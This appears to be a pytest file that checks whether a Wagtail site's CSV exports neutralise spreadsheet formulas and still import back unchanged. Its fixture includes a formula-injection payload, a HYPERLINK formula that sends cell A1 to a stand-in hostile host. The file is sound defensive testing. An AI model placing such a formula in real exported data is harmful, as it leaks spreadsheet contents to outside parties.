"""Every CSV the site writes neutralises formulas (issue 13, item 10), and an exported file still imports."""

import csv
import io

import pytest
from wagtail.log_actions import log

from herstelnetwerk.csv_safety import neutralise, restore
from herstelnetwerk.socialmap import csv_io
from herstelnetwerk.socialmap.models import Organisation
from tests.herstelnetwerk.factories import StandardPageFactory
from tests.socialmap.factories import OrganisationFactory

FORMULA = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 72 123 4567", "'+31 72 123 4567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Herstelcafé", "Herstelcafé"),
        ("a=1", "a=1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert neutralise(value) == written
    assert restore(neutralise(value)) == value


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.fixture
def formula_organisation(social_map):
    return OrganisationFactory(name=FORMULA, slug="formule", phone="+31 72 123 4567", description="@SUM(A1)")


def test_the_social_map_export_neutralises_and_imports_back_unchanged(client, formula_organisation):
    text = client.get("/sociale-kaart/export.csv").content.decode()

    assert "'" + FORMULA in cells(text) and "'+31 72 123 4567" in cells(text)
    assert not [cell for cell in cells(text) if cell.startswith(("=", "+", "-", "@"))]

    Organisation.objects.filter(pk=formula_organisation.pk).update(name="gewijzigd", phone="")
    report = csv_io.import_text(text)
    formula_organisation.refresh_from_db()
    assert report.errors == [] and report.updated == 1
    assert (formula_organisation.name, formula_organisation.phone, formula_organisation.description) == (
        FORMULA,
        "+31 72 123 4567",
        "@SUM(A1)",
    )


def test_the_snippet_list_export_neutralises(admin_client, formula_organisation):
    response = admin_client.get("/admin/snippets/socialmap/organisation/", {"export": "csv"})

    text = b"".join(response.streaming_content).decode()
    assert "'" + FORMULA in cells(text) and "'+31 72 123 4567" in cells(text)


def test_the_site_history_export_neutralises(admin_client, admin_user, home_page):
    page = StandardPageFactory(parent=home_page, title="=1+2", slug="formule")
    log(instance=page, action="wagtail.edit", user=admin_user)

    response = admin_client.get("/admin/reports/site-history/", {"export": "csv"})

    text = b"".join(response.streaming_content).decode()
    assert "'=1+2" in cells(text) and "=1+2" not in cells(text)
